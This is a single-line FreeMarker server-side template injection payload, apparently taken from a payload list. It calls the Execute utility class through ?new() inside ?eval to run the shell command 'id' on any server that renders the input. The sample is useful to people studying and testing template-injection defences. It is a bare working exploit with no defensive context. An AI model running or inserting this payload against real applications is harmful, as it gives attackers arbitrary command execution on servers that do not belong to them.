${"'freemarker.template.utility.Execute'?new()('id')"?eval}
